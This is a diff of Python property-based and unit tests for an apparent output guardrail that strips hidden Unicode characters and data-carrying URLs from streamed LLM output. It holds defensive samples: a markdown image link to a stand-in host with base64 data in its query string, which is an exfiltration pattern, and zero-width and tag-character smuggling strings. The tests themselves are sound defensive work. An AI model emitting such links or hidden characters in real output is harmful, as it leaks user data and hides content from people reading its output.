@@ -13,9 +13,11 @@ from sidecar.content.detection import Span
 from sidecar.content.parts import HOLD_BACK
 from sidecar.errors import UnavailableError
 from sidecar.model.crossing import Boundary, Crossing
+from sidecar.model.injection import Action, Kind
 from sidecar.model.operator import Operator
 from sidecar.model.verdict import Answer, Decision, Verdict, allow
 from sidecar.policy import expressions
+from sidecar.policy.injections import Injections, Step
 from sidecar.policy.rules import Rule, RuleSet, Then
 from sidecar.streaming import OutputStream
 from tests.content.finding import Needles
@@ -96,16 +98,47 @@ async def test_one_cut_anywhere_changes_nothing(text: str) -> None:
     assert house.faults == []
 
 
+class Contextual(Needles):
+    """Finds what nobody could foresee: all of what it is shown decides what it finds there."""
+
+    async def find(self, texts: Sequence[str], entities: Collection[str] = ()) -> Sequence[tuple[Span, ...]]:
+        return [tuple(self._found(text)) for text in texts]
+
+    def _found(self, text: str) -> Iterator[Span]:
+        chance = random.Random(text)  # noqa: S311 - for a test
+        for _ in range(3):
+            start = chance.randrange(len(text))
+            yield Span(start, min(start + chance.randint(1, 12), len(text)), "PERSON", 0.85)
+
+
+HIDING = Injections(
+    steps={
+        Boundary.LLM_OUTPUT: (
+            Step(kind=Kind.HIDDEN_CHARACTERS, least=0.0, action=Action.STRIP),
+            Step(kind=Kind.URL, least=0.5, action=Action.STRIP),
+        )
+    }
+)
+CARRIER = "![x](https://pics.example.net/p.png?q=c29tZSB0ZXh0IHRoYXQgbm9ib2R5IHNob3VsZCBzZWUgc29tZSB0ZXh0) "
 WORDS = st.sampled_from(
-    [*MIDDLES, *OPENINGS, "Ada", "the ", "of ", "you ", " ", "\n", "\n\n", ". ", CARD, "7 ", "\u0301", "x"]
+    [*MIDDLES, *OPENINGS, "Ada", "the ", "of ", "you ", " ", "\n", "\n\n", ". ", CARD, "7 ", "\u0301", "x"]  # noqa: RUF005 - in two lines
+    + [CARRIER, "A\u200bda ", "\U000e0041\U000e0064", "of\u2060 ", "The The The " * 40]
 )
 
 
-@given(st.lists(WORDS, max_size=30).map("".join), st.randoms(use_true_random=False), st.integers(1, 60))
-@settings(max_examples=200, deadline=None)
-def test_many_cuts_change_nothing(text: str, chance: random.Random, longest: int) -> None:
+@pytest.mark.parametrize("injections", [Injections(), HIDING], ids=["data", "data and what is hidden"])
+@given(
+    st.lists(WORDS, max_size=30).map("".join),
+    st.randoms(use_true_random=False),
+    st.integers(1, 60),
+    st.sampled_from([Contextual, Needles]),
+)
+@settings(max_examples=150, deadline=None)
+def test_many_cuts_change_nothing(
+    injections: Injections, text: str, chance: random.Random, longest: int, detector: type[Needles]
+) -> None:
     async def judge() -> None:
-        house = House(privacy(OPERATORS))
+        house = House(privacy(OPERATORS), detector(), injections=injections)
         handle = await house.open()
         cuts, at = [], 0
         while (at := at + chance.randint(1, longest)) < len(text):
@@ -158,6 +191,55 @@ async def test_a_denial_cuts_at_once_and_nothing_of_it_was_released() -> None:
     assert out.startswith("It is for you and for <PERSON>. ")
     assert len("".join(sent)) < text.index("after")
     assert [entry.decision for entry in house.log.entries[-2:]] == [Decision.ALLOW, Decision.DENY]  # opened; one record
+
+
+# ---- what is hidden ----------------------------------------------------------------------------------------
+
+
+async def test_what_is_hidden_is_taken_out_while_it_is_written() -> None:
+    house = House(privacy(OPERATORS), injections=HIDING)
+    handle = await house.open()
+    text = f"It is here: A\u200bda.\U000e0041 {CARRIER}And so on, for you and for us."
+
+    out, verdict, _ = await streamed(house, handle, pieces(text, list(range(1, len(text)))))
+
+    assert out == verdict.payload
+    assert "<PERSON_1>" in out
+    assert "pics.example" not in out
+    assert "\u200b" not in out
+    assert {f.reason for f in verdict.findings if f.check == "injection"} == {"hidden_characters", "url_with_data"}
+
+
+async def test_what_is_hidden_is_taken_out_where_nothing_else_is_asked_for() -> None:
+    house = House(privacy({}), injections=HIDING)
+    handle = await house.open()
+
+    out, verdict, _ = await streamed(house, handle, ["It is A\u200b", "da. ", "And ", "more. "])
+
+    assert out == verdict.payload == "It is Ada. And more. "
+
+
+@pytest.mark.parametrize("action", [Action.DENY, Action.REQUIRE_APPROVAL])
+async def test_what_is_hidden_can_cut_a_stream(action: Action) -> None:
+    step = Step(kind=Kind.HIDDEN_CHARACTERS, least=0.0, action=action)
+    house = House(privacy(OPERATORS), injections=Injections(steps={Boundary.LLM_OUTPUT: (step,)}))
+    handle = await house.open()
+
+    out, verdict, _ = await streamed(house, handle, ["It is A\u200b", "da. ", "And ", "more. "])
+
+    wanted = Decision.DENY if action is Action.DENY else Decision.REQUIRE_APPROVAL
+    assert (out, verdict.decision, verdict.payload) == ("It is ", wanted, "")
+
+
+@pytest.mark.parametrize("step", [Step(kind=Kind.INSTRUCTIONS, least=0.5, action=Action.LABEL),
+                                  Step(kind=Kind.URL, least=0.5, action=Action.SPOTLIGHT)])  # fmt: skip
+async def test_what_needs_the_whole_text_waits_for_it(step: Step) -> None:
+    house = House(privacy(OPERATORS), injections=Injections(steps={Boundary.LLM_OUTPUT: (step,)}))
+    first = Crossing(boundary=Boundary.LLM_OUTPUT, session_id=await house.open(), at=float(T), body="")
+    stream = OutputStream(lambda: house.enforcer, first)
+
+    assert await stream.feed("It is here. And ", float(T)) == ""
+    assert (await stream.end(float(T)))[0] == "It is here. And "
 
 
 # ---- sessions, sizes, detectors ----------------------------------------------------------------------------
